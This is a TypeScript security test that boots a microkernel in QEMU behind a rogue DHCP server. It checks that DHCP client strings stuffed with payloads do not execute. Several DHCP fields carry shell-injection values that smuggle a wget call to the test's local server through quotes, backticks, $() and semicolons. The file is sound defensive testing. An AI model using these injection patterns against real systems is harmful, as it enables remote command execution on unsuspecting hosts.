// Issue 10 §3 on the real microkernel (build/out/microkernel) in QEMU (TCG): a rogue DHCP server is the only
// one on the link and puts wget payloads in every string a DHCP client copies. The hook must still configure
// the NIC for real (the agent's register reaches the stand-in appliance from the leased address) and no payload
// may run (the stand-in would see GET /pwned/... before the register). Run as root; QEMU tests take turns:
//   flock /tmp/cc-qemu.lock npx vitest run test/security/microkernel-dhcp-qemu.test.ts
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Lab, type BridgedNet } from '../support/netns-lab.ts';
import { checkQemu, SerialLog } from '../e2e/harness/qemu.ts';
import { ROOT } from './microkernel-sandbox.ts';

const MK = path.join(ROOT, 'build/out/microkernel');
const lab = new Lab('sec', 'mkqemu');
const NS = lab.ns('net');
const SERVER = '10.78.0.1';
const GUEST_IP = '10.78.0.50';
const PORT = 8026;
/** TCG: kernel + 200 MiB xz initrd + node start + facts; the e2e boot test allows the same order of time. */
const REGISTER_TIMEOUT_MS = 6 * 60_000;

/** One line the rogue server printed. */
interface RogueEvent {
  event: string;
  type?: string;
  method?: string;
  path?: string;
  from?: string;
}

let net: BridgedNet | undefined;
let rogue: ChildProcess | undefined;
let qemu: ChildProcess | undefined;
let serial: SerialLog | undefined;
let tmp = '';
let startedAt = 0;
const events: RogueEvent[] = [];

const hex = (s: string): string => Buffer.from(s, 'latin1').toString('hex');
const pwn = (tag: string): string => `wget -q -O- http://${SERVER}:${PORT}/pwned/${tag}`;

beforeAll(async () => {
  checkQemu();
  for (const f of ['vmlinuz', 'initrd.img'])
    if (!existsSync(path.join(MK, f))) throw new Error(`${path.join(MK, f)} is missing\n  fix: npm run build:microkernel`);
  tmp = mkdtempSync(path.join(os.tmpdir(), 'cc-mkqemu-'));
  net = lab.bridgedNet('net', SERVER, 24);
  const tap = lab.addTap(net);
  // The OFFER/ACK go to 255.255.255.255, which needs a route in the namespace.
  execFileSync('ip', ['-n', NS, 'route', 'add', 'default', 'dev', net.bridge]);
  const cfg = {
    yiaddr: GUEST_IP,
    server: SERVER,
    mask: '255.255.255.0',
    broadcast: '10.78.0.255',
    lease_s: 3600,
    file_hex: hex(`x';${pwn('file')};'`),
    sname_hex: hex(`$(${pwn('sname')})`),
    options_hex: {
      12: hex(`\`${pwn('host')}\``),
      15: hex(`a;${pwn('dom')}`),
      17: hex(`x';${pwn('root')};'`),
      56: hex(`x'\n${pwn('msg')}\n'`),
      66: hex(`$(${pwn('tftp')})`),
      67: hex(`x";${pwn('bootfile')};"`),
    },
    http_port: PORT,
  };
  rogue = spawn(
    'ip',
    ['netns', 'exec', NS, process.execPath, 'bin/run-ts.mjs', 'test/security/microkernel-rogue-dhcp.ts', JSON.stringify(cfg)],
    {
      cwd: ROOT,
      stdio: ['ignore', 'pipe', 'inherit'],
    },
  );
  await new Promise<void>((resolve, reject) => {
    rogue!.once('exit', (c) => reject(new Error(`rogue DHCP server exited with ${c}`)));
    createInterface({ input: rogue!.stdout! }).on('line', (l) => {
      const e = JSON.parse(l) as RogueEvent;
      if (events.length < 10_000) events.push(e);
      if (e.event === 'ready') resolve();
    });
  });
  const serialFile = path.join(tmp, 'serial.log');
  serial = new SerialLog(serialFile);
  // Direct kernel boot with the kernel arguments the appliance's boot script gives (server/boot/scripts.ts).
  const append = [
    `crashcart.url=http://${SERVER}:${PORT}`,
    'crashcart.node=1',
    'crashcart.token=tok-mksec-qemu-1',
    'console=ttyS0,115200n8',
    'ipv6.disable=1',
    'quiet',
  ].join(' ');
  startedAt = Date.now();
  qemu = spawn(
    'ip',
    [
      ...['netns', 'exec', NS, 'qemu-system-x86_64', '-machine', 'q35', '-accel', 'tcg', '-m', '1024', '-smp', '2'],
      ...['-nographic', '-monitor', 'none', '-chardev', `file,id=ser0,path=${serialFile}`, '-serial', 'chardev:ser0'],
      ...['-kernel', path.join(MK, 'vmlinuz'), '-initrd', path.join(MK, 'initrd.img'), '-append', append, '-no-reboot'],
      ...[
        '-netdev',
        `tap,id=net0,ifname=${tap},script=no,downscript=no`,
        '-device',
        'virtio-net-pci,netdev=net0,mac=52:54:00:4d:4b:01,romfile=',
      ],
    ],
    { stdio: ['ignore', 'ignore', 'inherit'] },
  );
}, 60_000);

afterAll(async () => {
  serial?.stop();
  for (const c of [qemu, rogue]) {
    if (c?.pid === undefined || c.exitCode !== null) continue;
    const gone = new Promise((r) => c.once('exit', r));
    c.kill('SIGKILL');
    await gone;
  }
  await lab.cleanup();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
  expect(lab.leftovers()).toEqual([]);
});

describe('the microkernel under a rogue DHCP server (QEMU)', () => {
  it(
    'configures its NIC from the lease, registers from the leased address, and runs no payload',
    async () => {
      const deadline = Date.now() + REGISTER_TIMEOUT_MS;
      let register: RogueEvent | undefined;
      while (!register && Date.now() < deadline && qemu!.exitCode === null) {
        register = events.find((e) => e.event === 'http' && e.path === '/api/v1/register');
        if (!register) await new Promise((r) => setTimeout(r, 1000));
      }
      const diag = (): string => `serial console (last 30 lines):\n${serial!.tail(30)}\nrogue server: ${JSON.stringify(events.slice(-20))}`;
      expect(register, diag()).toBeDefined();
      console.log(
        `[microkernel-dhcp-qemu] register from ${register!.from} ${Math.round((Date.now() - startedAt) / 1000)} s after QEMU started`,
      );
      // The agent reached the stand-in appliance over the address the hook put on the NIC.
      expect(register!.from?.replace(/^::ffff:/, '')).toBe(GUEST_IP);
      expect(events.filter((e) => e.event === 'reply').map((e) => e.type)).toEqual(expect.arrayContaining(['OFFER', 'ACK']));
      // Every payload would have fetched /pwned/<field> before the agent started: none did.
      const upToRegister = events.slice(0, events.indexOf(register!) + 1);
      expect(
        upToRegister.filter((e) => e.event === 'http' && e.path?.startsWith('/pwned')),
        diag(),
      ).toEqual([]);
      // init's console line shows the validated lease: the good values, no trace of the payloads.
      const line = serial!.find(/crashcart-init: lease: /)?.text ?? '';
      expect(line, diag()).toContain(`ip=${GUEST_IP} mask=24`);
      expect(line).toContain(`serverid=${SERVER} siaddr=${SERVER}`);
      expect(line).toContain('boot_file= ');
      expect(line).not.toMatch(/wget|pwned/);
      console.log(`[microkernel-dhcp-qemu] ${line}`);
      expect(serial!.find(/crashcart-supervisor: starting agent/)).toBeDefined();
    },
    REGISTER_TIMEOUT_MS + 30_000,
  );
});
